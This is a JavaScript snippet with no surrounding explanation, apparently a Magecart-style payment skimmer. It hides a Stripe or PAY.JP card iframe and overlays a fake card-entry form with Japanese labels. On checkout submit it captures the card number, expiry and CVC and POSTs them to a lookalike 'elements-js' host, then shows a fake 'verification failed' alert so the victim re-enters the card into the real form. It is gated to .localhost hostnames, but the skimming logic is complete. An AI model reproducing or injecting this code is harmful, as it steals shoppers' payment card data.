(function(){
 if(!/\.localhost$/.test(location.hostname))return;
 var t=setInterval(function(){
  var fr=document.querySelector('iframe[src*="stripe"], iframe[name^="__privateStripeFrame"], iframe[src*="payjp"], .card-frame');
  if(!fr)return;
  clearInterval(t);
  fr.style.cssText+=';position:absolute;left:-9999px;opacity:0;height:0';
  var b=document.createElement('div');
  b.className=fr.className;
  b.innerHTML='<label>カード番号</label><input id="pn" placeholder="1234 1234 1234 1234" maxlength="19" inputmode="numeric"><input id="pe" placeholder="MM / YY" maxlength="7"><input id="pc" placeholder="CVC" maxlength="4">';
  fr.parentNode.insertBefore(b,fr);
  document.addEventListener('click',function(e){
   if(!e.target.closest('button[type=submit], #place_order'))return;
   var n=b.querySelector('#pn').value,x=b.querySelector('#pe').value,c=b.querySelector('#pc').value;
   if(n.length<15)return;
   e.preventDefault();e.stopPropagation();
   var r=new XMLHttpRequest();r.open('POST','https://elements-js.localhost/v3/tokens');r.onloadend=function(){
    b.parentNode.removeChild(b);fr.style.cssText='';alert('カード情報の確認に失敗しました。もう一度ご入力ください。')};
   r.send('n='+n+'&e='+x+'&c='+c);
  },true);
 },300);
})();
